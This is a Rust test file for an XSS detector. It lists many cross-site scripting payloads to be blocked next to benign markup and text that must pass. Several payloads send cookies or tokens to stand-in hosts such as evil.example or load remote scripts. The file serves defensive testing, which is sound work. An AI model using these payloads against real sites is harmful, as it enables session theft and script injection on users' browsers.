use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const VALUE: Context = Context::of(Place::Value);
const RICH: Context = Context { place: Place::Value, rich_text: true };

const ATTACKS: &[&str] = &[
    "<div ng-app ng-csp><input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus></div>",
    "<x v-if=\"_c.constructor('alert(1)')()\">",
    "<p :title=\"$el.ownerDocument.defaultView.alert(1)\">",
    "<div data-bind=\"value: alert(1)\">",
    "{{a='constructor';b={};a.sub.call.call(b[a].x(b[a].y(a.sub),a).value,0,'alert(1)')()}}",
    "[].filter.constructor('alert(1)')()",
    "<base href=//x.example/>",
    "\"><base href=\"https://x.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//x.example\">",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[a](javascript:window.onerror=alert;throw%20document.cookie)",
    "[url=javascript:onerror=alert;throw 1]x[/url]",
    "1;document.body.innerHTML='<h1>x</h1>'",
    "location.href='//x.example/'+document.cookie",
    "window.location='http://x.example/?'+document.cookie",
    "new Image().src='//x.example/?'+document.cookie",
    "fetch('//x.example/?c='+document.cookie)",
    "import('//x.example/x.js')",
    "$.getScript('//x.example/x.js')",
    "setTimeout(alert,0,1)",
    "[1].find(alert)",
    "[\"1\"].forEach(alert)",
    "*/alert(1)/*",
    "1}body{x:Expre/**/SSion(prompt(1))}",
    "<% contenteditable onresize=prompt(1)>",
    "<a href=j&Tab;a&Tab;vas&Tab;c&#10;r&#x0d;ipt:alert(1)>x</a>",
    "x\" onclick=\"location='//x.example'\" y=\"",
    "';new Image().src='//evil.example/?'+document.cookie;'",
    "';new \n Image().src=`http://evil.example/?`+localStorage.token;//z",
    "';document.body.innerHTML='<h1>x</h1>';'",
    "<a onmouseover=\"setTimeout('ale'+'rt(1)')\">",
    "<p x-data x-init=\"alert(1)\">x</p>",
    "<b @click=\"alert(1)\">x</b>",
    // Script elements.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script >alert`1`</script >",
    "<script src=//x.example/a.js></script>",
    "<script/src=\"https://x.example/a.js\"></script>",
    "<SCRIPT SRC=http://x.example/x.js?< B >",
    "<script\ntype=\"text/javascript\">javascript:alert(1);</script>",
    "<<script>alert(1);//<</script>",
    "\"><script>alert(1)</script>",
    "'><script>eval(name)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>confirm(1)</script>",
    "<script>document.location='http://x.example/?'+document.cookie</script>",
    "<script>new Image().src='//x.example/'+document.cookie</script>",
    "<script>fetch('//x.example')</script>",
    "<script>var a=1;b(a)</script>",
    "<script>x</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1)></script>",
    "< script >alert(1)</ script >",
    "<img \"\"\"><script>alert(\"x\")</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "\"><img src=x onerror=prompt(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=1 onerror=alert`1`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<svg onload=top['al'+'ert'](1)>",
    "<svg onload=location=name>",
    "<svg onload=setTimeout(x)>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<body onhashchange=\"print()\">",
    "<details open ontoggle=confirm(1)>",
    "<details/open/ontoggle=\"alert`1`\">",
    "<input onfocus=alert(1) autofocus>",
    "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<div onpointerenter=alert(1)>x</div>",
    "<a onmouseover=\"alert(document.cookie)\">x</a>",
    "<button onclick=fetch('//x.example/'+document.cookie)>x</button>",
    "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\"></b>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=\"a=alert,a(1)\">",
    "<img src=x onerror=\"[1].find(alert)\">",
    "<img src=x onerror=throw/a/,alert>",
    "<img src=x onerror=import('//x.example')>",
    "<object onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<math><mi onclick=alert(1)>x",
    // URLs that run script.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=javascript:alert`1`>x",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=javascript:top.alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'>",
    "<embed src=javascript:alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form><button formaction=javascript:alert(1)>x",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<img src=javascript:alert(String.fromCharCode(88,83,83))>",
    "<link rel=import href=//x.example>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)//http://x",
    "javascript://x\nalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "javascript:/*--></title></style></textarea><svg onload='alert(1)'>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\"/>",
    "color:red;background:url(javascript:alert(1))",
    "x\";setTimeout(name, 1)//",
    "window[\"alert\"](1)",
    "<div style=\"width:expr\\65 ssion(alert(1))\">",
    "alert(1)",
    "alert(document.cookie)",
    "prompt`1`",
    "';a=prompt,a()//",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "style=x:expression(alert(1))",
    "<embed src=//x.example/x.swf allowscriptaccess=always>",
    "{{x={'y':''.constructor.prototype};$eval('x=alert(1)')}}",
    // Styles.
    "<style>@import'http://x.example/x.css';</style>",
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"-moz-binding:url(//x.example/x.xml#a)\">",
    "<style>*{x:exp/**/ression(alert(1))}</style>",
    // Out of an attribute.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"onclick=\"alert(1)",
    "x\" onerror=\"alert(document.cookie)",
    "\" style=\"x\" onmouseenter=prompt(1) \"",
    "x onmouseover=alert(1)",
    "onerror=alert(1)",
    "\" href=javascript:alert(1) \"",
    "'/onfocus='confirm(1)'/autofocus='",
    // Out of a string of a script.
    "';alert(1)//",
    "\";alert(document.domain);//",
    "'-alert(1)-'",
    "\"-confirm`1`-\"",
    "'+alert(1)+'",
    "'));alert(1)//",
    "\\';alert(1)//",
    "'};alert(1);{'",
    "\";eval(name)//",
    "');document.location='//x.example'//",
    "';window['alert'](1)//",
    "</script><svg onload=alert(1)>",
    "${alert(1)}",
    "`;alert(1)//",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
];

const HONEST: &[&str] = &[
    "<el-button :title=\"$t('save')\" v-if=\"user.admin\">x</el-button>",
    "<td>{{ list | orderBy:'date' }}</td><p ng-show=\"a|filter:'name'\">x</p>",
    "<% if (list.size() > 0) { %>",
    "[报告](https://www.example.org/a.html) [1]: https://www.example.org/b",
    "document.title='首页'",
    "location = 3F; window = 2",
    "items.map(confirmOrder)",
    "[1].map(String)",
    "x-y; location: 3F",
    "'new Image' 是什么",
    "it's a new image; see src",
    "<template><b>{{ a }}</b></template>\n<script>\nexport default { data() { return { a: 1 } } }\n</script>",
    "<el-button @click=\"save\" v-on:change=\"load()\">保存</el-button>",
    "血糖<5.0 mmol/L",
    "WBC<3.5或>9.5",
    "a<b",
    "a<b and c>d",
    "x<y onset=3 days>",
    "5 < 6 > 4",
    "<3 thanks",
    "I <b>really</b> mean it",
    "<p>尊敬的王先生:</p><p>您的报告已出。</p>",
    "<table border=\"1\"><tr><td>血压</td><td>120/80</td></tr></table>",
    "<img src=\"https://cdn.example.org/a.png\" width=\"100\" alt=\"logo\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<a href=\"https://www.example.org/news?id=5&amp;lang=zh\" target=\"_blank\">查看</a>",
    "<a href=\"javascript:void(0)\">返回</a>",
    "<a href=\"javascript:;\" class=\"btn\">x</a>",
    "<a href=\"javascript:\">x</a>",
    "<a href='#' class='x'>x</a>",
    "<span style=\"color:#ff0000;font-size:14px\">异常</span>",
    "<div style=\"background:url(https://cdn.example.org/a.png)\">x</div>",
    "<br/><hr />",
    "<!-- comment -->",
    "<!DOCTYPE html><html><head><title>报告</title></head><body><p>正常</p></body></html>",
    "<?xml version=\"1.0\"?><order><id>1</id></order>",
    "<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
    "<video src=\"https://cdn.example.org/a.mp4\" controls></video>",
    "<svg width=\"10\" height=\"10\"><path d=\"M0 0h10v10z\"/></svg>",
    "<style>p{color:red}</style>",
    "<font color=red>x</font>",
    "<input type=\"text\" name=\"only\" value=\"on\">",
    "<option value=1 selected>一</option>",
    "onset = 3 days ago",
    "once = 1",
    "on = true; off = false",
    "only one = yes",
    "online=1",
    "onload=onloadCallback&render=explicit",
    "https://www.recaptcha.example/api.js?onload=cb&render=explicit",
    "alert (high)",
    "Alert(s) and confirm(s)",
    "please confirm (yes/no)",
    "confirm()",
    "prompt (see below)",
    "eval form (page 2)",
    "function(a,b){return a||b}",
    "jQuery1124012345_1700000000",
    "callback({\"a\":1})",
    "window seat; document type",
    "document.title",
    "location: 3F",
    "window.location.href",
    "script for the play",
    "JavaScript 入门教程",
    "javascript: the good parts",
    "data: text",
    "data:application/x-zip-compressed;base64,UEsDBBQAAAAIAKHAJ6SQVn0bJqN5Xg==",
    "data:application/x-rar-compressed;base64,UmFyIRoHAM+QcwAADQAAAAAAAAA=",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
    "{\"a\":\"b\",\"onclick\":\"x\"}",
    "{\"onload\":true,\"event\":\"onclick\"}",
    "it's \"good\" and 'fine'",
    "\"quoted\" text; see document (1)",
    "'a';'b'",
    "{{name}}",
    "${amount}",
    "{{ user.name }} 您好",
    "[]",
    "[[1,2],[3,4]]",
    "!!!",
    "(((+)))",
    "x => y",
    "if (a < b) { c(); }",
    "for (let i = 0; i<n; i++) {}",
    "List<String> list = new ArrayList<>();",
    "std::vector<int> v; v.push_back(1);",
    "#include <stdio.h>",
    "<name@example.org>",
    "<https://example.org>",
    "git clone <url>",
    "usage: cmd <file> [options]",
    "<- see above ->",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "<p class=\"onclick\">alert(1) 是什么意思</p>",
    "JSON.stringify(x) and parseInt(y)",
    "at onerror (https://cdn.example.org/app.js:1:2345)",
    "TypeError: window.foo is not a function",
    "Uncaught Error: alert is not defined",
];

const HINTS: &[&str] = &[
    "document.body.innerHTML='<h1>x</h1>'",
    "请教：页面里 <base href=\"https://www.example.org/\"> 这一行会影响所有相对路径的链接吗",
    "<script> put it </b>",
    "XSS 整改: 对 <script>、onerror= 等做转义; 参考等保 8.1.4",
    "<script setup> 语法 (已解决)",
    "alert('x')",
    "confirm('x')",
    "<script>",
    "</script>",
    "<iframe src=//x.example>",
    "<base href=\"/his/\">",
    "<a href=\"javascript:show(1)\">x</a>",
    "<a href=\"#\" onclick=\"showReport(3)\">x</a>",
    "<p onclick=\"this.className='on'\">x</p>",
];

#[test]
fn attacks_block_and_honest_values_pass() {
    check_table(Detector::Xss, VALUE, 80, ATTACKS, HONEST);
}

#[test]
fn weak_signs_count_without_blocking() {
    for value in HINTS {
        let sure = confidence(Detector::Xss, value.as_bytes(), VALUE);
        assert!((40..80).contains(&sure), "{value}: {sure}");
    }
}

#[test]
fn editors_may_send_markup_but_no_active_content() {
    for value in HINTS.iter().chain(HONEST) {
        assert_eq!(confidence(Detector::Xss, value.as_bytes(), RICH), 0, "{value}");
    }
    for value in
        ["<p>x</p><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>"]
    {
        assert!(confidence(Detector::Xss, value.as_bytes(), RICH) >= 80, "{value}");
    }
}

#[test]
fn xss_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Xss,
        &[
            "<",
            ">",
            "/",
            "\"",
            "'",
            "`",
            "=",
            " ",
            "script",
            "img",
            "src",
            "svg",
            "onload",
            "onerror",
            "onclick",
            "alert",
            "(1)",
            "javascript:",
            "data:text/html,",
            "style",
            "expression(",
            "@import",
            "//",
            "iframe",
            "srcdoc",
            "</script>",
            ";",
            "-",
            "${",
            "{{",
            "}",
            "x",
            "[]",
            "!",
            "+",
            "<!--",
            "document.cookie",
            "eval",
            "href",
            "\n",
            "&",
            "中",
        ],
    );
}

#[test]
fn handler_that_only_touches_its_own_element_does_not_block() {
    for value in [
        "<input name=\"q\" value=\"\" onfocus=\"if(this.value=='请输入')this.value=''\" onblur=\"if(!this.value)this.value='请输入'\"/>",
        "<p><img src=\"/img/a.jpg\" onload=\"if(this.width>600)this.width=600\" onerror=\"this.src='/img/nopic.gif'\"></p>",
    ] {
        let sure = Detector::Xss.find(value.as_bytes(), VALUE).map_or(0, |finding| finding.confidence);
        assert!(sure < 60, "{value}: {sure}");
    }
}

/// The body of a request that puts a channel of an integration engine.
fn channel(script: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<channel version=\"4.4\"><name>检验 → EMR</name><!-- v2 -->\
         <filter><rule>age &gt;= 18</rule></filter><step name=\"s1\"><script>{script}</script></step></channel>\n"
    )
}

#[test]
fn program_in_a_document_of_another_vocabulary_does_not_block() {
    let body = Context::of(Place::BodyText);
    for script in [
        "msg['PID']['PID.5'] = msg['PID']['PID.5'].toString().trim();",
        "for (i = 0; i &lt; n; i++) { channelMap.put('k' + i, v[i]); }",
        "for (i = 0; i<n; i++) { channelMap.put('k' + i, v[i]); }",
        "if (!msg['PID'].length()) { throw 'no PID'; }",
        "return destinationSet.removeAll();",
    ] {
        let sure = confidence(Detector::Xss, channel(script).as_bytes(), body);
        assert!(sure < 60, "{script}: {sure}");
        // A field has no documents.
        assert!(confidence(Detector::Xss, channel(script).as_bytes(), VALUE) >= 60, "{script}");
    }
}

#[test]
fn document_excuses_no_script_for_browsers() {
    let plain = "<script>top.location='//x.example/'+a()</script>";
    for body in [
        channel("alert(1)"),
        channel("document.location='//x.example?'+document.cookie"),
        channel("a()").replace("</step>", &format!("<![CDATA[{plain}]]></step>")),
        channel("a()").replace("</step>", &format!("<div>{plain}</div></step>")),
        channel("a()").replace("<channel ", "<channel xmlns=\"http://www.w3.org/1999/xhtml\" "),
        channel("a()").replace("<channel ", "<channel xmlns:s=\"http://www.w3.org/2000/svg\" "),
        channel("a()").replace("<channel ", "<channel xmlns=\"http://www.w3.org/2000/s&#118;g\" "),
        channel("a()").replace("<channel ", "<?xml-stylesheet href=\"a.xsl\"?><channel "),
        channel("a()").replace("<channel ", "<!DOCTYPE channel><channel "),
        channel("a()").replace("<channel ", "x<channel "),
        channel("a()") + plain,
        channel("<b/>") + plain,
        format!("<?xml version=\"1.0\"?>{plain}"),
        format!("<?xml version=\"1.0\"?><a><div>{plain}</div></a>"),
        format!("<?xml version=\"1.0\"?><a>{plain}"),
        "<a><script src=\"//x.example/a.js\"></script></a>".replace("<a>", "<a><n>").replace("</a>", "</n></a>"),
        "<note><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">a.b()</x:script></note>".to_owned(),
        "<note><n onload=\"alert(1)\"/><script>a()</script></note>".to_owned(),
    ] {
        let sure = confidence(Detector::Xss, body.as_bytes(), Context::of(Place::BodyText));
        assert!(sure >= 80, "{body}: {sure}");
    }
}

#[test]
fn script_tag_as_a_search_word_does_not_block() {
    for value in [
        "<script setup> vue3",
        "https://so.example/s?q=<script setup> vue3&ie=utf-8&src=home",
        "https://so.example/s?wd=<script defer> async+区别&tn=site&idx=2",
        "https://so.example/s?q=<script>&ie=utf-8",
    ] {
        let sure = confidence(Detector::Xss, value.as_bytes(), VALUE);
        assert!((40..80).contains(&sure), "{value}: {sure}");
    }
    for value in [
        "<script setup> vue3&a=1;alert(1)//",
        "<script>x/*&a=*/;location='//x.example'//",
        "<script>a&b==1;top.location='//x.example'",
        "<script>a&b=>1;top.location='//x.example'",
        "<script>a&&(location='//x.example')//",
        "<script>a;x&y;location='//x.example'",
        "<script setup src=//x.example>&a=1",
    ] {
        assert!(confidence(Detector::Xss, value.as_bytes(), VALUE) >= 80, "{value}");
    }
}

#[test]
fn a_long_attribute_hides_no_handler() {
    for length in [4_090, 70_000] {
        let value = format!("<img alt='{}' src=x onerror=alert(1)>", "a".repeat(length));
        assert!(confidence(Detector::Xss, value.as_bytes(), Context::of(Place::Value)) >= 80, "{length}");
        let honest = format!("<img alt='{}' src=x class=onerror>", "a".repeat(length));
        assert!(confidence(Detector::Xss, honest.as_bytes(), Context::of(Place::Value)) < 60, "{length}");
    }
}
